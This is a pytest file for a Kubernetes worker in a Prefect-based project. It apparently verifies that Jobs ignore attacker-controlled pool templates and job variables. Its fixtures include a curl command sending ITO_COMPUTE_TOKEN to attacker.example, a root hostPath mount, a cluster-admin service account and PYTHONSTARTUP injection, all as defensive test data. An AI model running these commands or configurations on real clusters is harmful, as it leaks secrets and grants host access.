"""The prefect-ito Kubernetes worker: every flow run's Job is the worker's own manifest.

The Job is built by prefect-kubernetes' own code (``resolve_for_flow_run``: the pool's template
and the job variables, then ``prepare_for_flow_run``), as the worker does for each flow run,
against a pool template and job variables an attacker wrote. No cluster is involved.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
import yaml
from prefect.client.schemas.objects import Flow, FlowRun, WorkPool
from prefect.client.schemas.responses import DeploymentResponse

pytest.importorskip("prefect_kubernetes")
from prefect_kubernetes.worker import KubernetesWorker, KubernetesWorkerJobConfiguration

from prefect_ito.worker import DEFAULT_FLOWS, FLOWS_VARIABLE
from prefect_ito.worker.allowed import Admission
from prefect_ito.worker.kubernetes import (
    MANIFEST_VARIABLE,
    ItoKubernetesJobConfiguration,
    ItoKubernetesWorker,
    admit,
    read_manifest,
)
from prefect_ito.worker.pull_steps import ADMITTED_VARIABLE

SHIPPED = Path(__file__).resolve().parents[2] / "deployments" / "kubernetes-job-manifest.yaml"
CANARY = "ito-token-canary-3f9a"
STEAL = "sh -c 'curl https://attacker.example/?t=$ITO_COMPUTE_TOKEN; prefect flow-run execute'"
PREFECT_OWN = {"PREFECT__FLOW_RUN_ID", "PREFECT__FLOW_ENTRYPOINT"}


def _hostile_pool() -> WorkPool:
    template = KubernetesWorker.get_default_base_job_template()
    spec = template["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]
    spec["containers"][0].update(image="attacker/image", args=STEAL)
    spec["initContainers"] = [{"name": "harvest", "image": "attacker/image", "args": STEAL}]
    spec["volumes"] = [{"name": "host", "hostPath": {"path": "/"}}]
    template["job_configuration"]["env"] = {"PYTHONSTARTUP": "/host/attacker.py"}
    return WorkPool(name="ito-k8s", type="prefect-ito-kubernetes", base_job_template=template)


HOSTILE_VARIABLES: dict[str, Any] = {
    "image": "attacker/image",
    "command": STEAL,
    "env": {"PYTHONPATH": "/attacker", "ITO_COMPUTE_TOKEN": CANARY},
    "namespace": "attacker",
    "service_account_name": "cluster-admin",
}


class _Client:
    """What resolve_for_flow_run reads: the flow run's deployment and flow."""

    def __init__(self, deployment: DeploymentResponse, flow: Flow) -> None:
        self.deployment, self.flow = deployment, flow

    async def read_deployment(self, _: Any) -> DeploymentResponse:
        return self.deployment

    async def read_flow(self, _: Any) -> Flow:
        return self.flow


async def _job(configuration: type[KubernetesWorkerJobConfiguration]) -> Any:
    flow = Flow(id=uuid4(), name="ito-training")
    deployment = DeploymentResponse(
        id=uuid4(),
        name="nightly",
        flow_id=flow.id,
        entrypoint="prefect_ito.flows.ito_training",
        job_variables=HOSTILE_VARIABLES,
    )
    flow_run = FlowRun(
        id=uuid4(),
        name="clever-fox",
        flow_id=flow.id,
        deployment_id=deployment.id,
        job_variables={"env.PYTHONSTARTUP": "/attacker/x.py", "image": "attacker/other"},
    )
    return await configuration.resolve_for_flow_run(
        flow_run,
        client=_Client(deployment, flow),  # type: ignore[arg-type]
        work_pool=_hostile_pool(),
        worker_name="ito-k8s-1",
    )


async def test_prefect_kubernetes_itself_runs_what_the_pool_and_job_variables_say():
    """The control: the stock configuration renders the attacker's image and command."""
    job = await _job(KubernetesWorkerJobConfiguration)

    container = job.job_manifest["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == "attacker/image"
    assert "attacker.example" in json.dumps(container["args"])


async def test_the_job_is_the_worker_s_manifest_whatever_the_pool_and_job_variables_say(
    monkeypatch: pytest.MonkeyPatch,
):
    monkeypatch.setenv("ITO_COMPUTE_TOKEN", CANARY)  # the worker's own, if it has one
    own = read_manifest(SHIPPED)
    job = await _job(ItoKubernetesJobConfiguration.of(own))
    step = {"prefect.deployments.steps.git_clone": {"repository": "https://x.example/f.git"}}
    admit(job, Admission("prefect_ito.flows.ito_training", pull_steps=(step,)))

    manifest = job.job_manifest
    spec, own_spec = manifest["spec"]["template"]["spec"], own["spec"]["template"]["spec"]
    (container,) = spec["containers"]
    (own_container,) = own_spec["containers"]
    assert {key: value for key, value in container.items() if key != "env"} == {
        key: value for key, value in own_container.items() if key != "env"
    }
    assert container["command"] == ["python", "-m", "prefect_ito.worker.engine"]
    assert container["args"] == []
    assert set(spec) == set(own_spec)  # no init container, no volume
    assert (job.namespace, manifest["metadata"]["namespace"]) == ("prefect", "prefect")
    own_env = {entry["name"]: entry for entry in own_container["env"]}
    env = {entry["name"]: entry for entry in container["env"]}
    assert env["ITO_COMPUTE_TOKEN"] == own_env["ITO_COMPUTE_TOKEN"]
    assert env["ITO_COMPUTE_TOKEN"]["valueFrom"]["secretKeyRef"] == {
        "name": "ito-compute-token",
        "key": "token",
    }
    assert env["ITO_COMPUTE_API_URL"] == own_env["ITO_COMPUTE_API_URL"]
    # Beyond the file's: Prefect's own settings and the flow run, and what the worker admitted.
    added = set(env) - set(own_env)
    assert all(name.startswith("PREFECT_") for name in added), added
    assert PREFECT_OWN | {ADMITTED_VARIABLE} <= added
    assert not {"PYTHONPATH", "PYTHONSTARTUP"} & set(env)
    assert env["PREFECT__FLOW_ENTRYPOINT"]["value"] == "prefect_ito.flows.ito_training"
    assert json.loads(env[ADMITTED_VARIABLE]["value"]) == [step]
    rendered = json.dumps(manifest)
    assert CANARY not in rendered and "attacker" not in rendered


def _write(path: Path, manifest: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(manifest))
    return path


def _container(manifest: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = manifest["spec"]["template"]["spec"]["containers"][0]
    return container


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            lambda c: c.update(env=[{"name": "ITO_COMPUTE_TOKEN", "value": CANARY}]),
            "ITO_COMPUTE_TOKEN must come from a Secret",
        ),
        (
            lambda c: c.update(command=["prefect", "flow-run", "execute"]),
            "does not run `python -m prefect_ito.worker.engine`",
        ),
        (lambda c: c.pop("command"), "does not run `python -m prefect_ito.worker.engine`"),
        (lambda c: c.pop("image"), "names no image"),
    ],
)
def test_a_manifest_it_would_not_run_stops_the_worker_saying_why(
    tmp_path: Path, change: Any, message: str
):
    manifest = copy.deepcopy(read_manifest(SHIPPED))
    change(_container(manifest))
    path = _write(tmp_path / "job.yaml", manifest)

    with pytest.raises(ValueError, match=message) as raised:
        ItoKubernetesWorker(work_pool_name="ito-k8s", job_manifest=path)
    assert CANARY not in str(raised.value)


def test_the_worker_type_reads_its_manifest_from_the_environment(
    monkeypatch: pytest.MonkeyPatch,
):
    from prefect.workers.base import BaseWorker

    monkeypatch.delenv(FLOWS_VARIABLE, raising=False)
    monkeypatch.delenv(MANIFEST_VARIABLE, raising=False)
    assert BaseWorker.get_worker_class_from_type("prefect-ito-kubernetes") is ItoKubernetesWorker
    with pytest.raises(ValueError, match=f"no job manifest.*{MANIFEST_VARIABLE}"):
        ItoKubernetesWorker(work_pool_name="ito-k8s")

    monkeypatch.setenv(MANIFEST_VARIABLE, str(SHIPPED))
    worker = ItoKubernetesWorker(work_pool_name="ito-k8s")

    assert worker.allowed.entrypoints == DEFAULT_FLOWS
    assert worker.job_configuration.own_manifest == read_manifest(SHIPPED)
    assert ItoKubernetesWorker.get_default_base_job_template()["variables"]["properties"] == {}
